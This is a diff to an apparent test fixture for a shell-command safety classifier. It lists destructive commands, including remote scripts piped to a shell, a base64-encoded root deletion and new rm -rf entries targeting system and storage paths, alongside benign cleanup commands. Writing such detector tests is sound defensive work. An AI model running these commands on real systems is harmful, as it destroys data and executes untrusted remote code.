@@ -157,6 +157,12 @@ DESTRUCTIVE: list[tuple[str, str]] = [
     ("curl -fsSL https://x.example/i.sh | tee i.sh | sh", "curl-pipe-shell"),
     ('python3 -c "$(curl -fsSL https://x.example/a.py)"', "curl-pipe-shell"),
     ("echo cm0gLXJmIC8K | base64 -d | bash", "encoded-pipe-shell"),
+    ("rm -rf /var/lib/docker", "rm-root"),
+    ("rm -rf /etc/ssh/", "rm-root"),
+    ("rm -rf /mnt/disks/WD_4TB/*", "rm-root"),
+    ("rm -rf /tank", "rm-root"),
+    ("rm -rf /volume1/*", "rm-root"),
+    ("rm -rf /usr/local/bin", "rm-root"),
 ]
 
 BENIGN: list[str] = [
@@ -234,6 +240,13 @@ BENIGN: list[str] = [
     "perl -e 'print 1'",
     'rm -rf "${TMPDIR:-/tmp}/varaverk"',
     "python3 -c 'import os; print(os.getcwd())'",
+    "rm -rf /var/lib/apt/lists/*",
+    "rm -rf /tmp/*",
+    "rm -f /etc/nginx/sites-enabled/default",
+    "rm -rf /etc/apt/sources.list.d/old.list",
+    "chown -R nobody:users /mnt/user/appdata",
+    "chown -R www-data:www-data /var/lib/nextcloud",
+    "chmod -R go-w ~/",
 ]
 
 
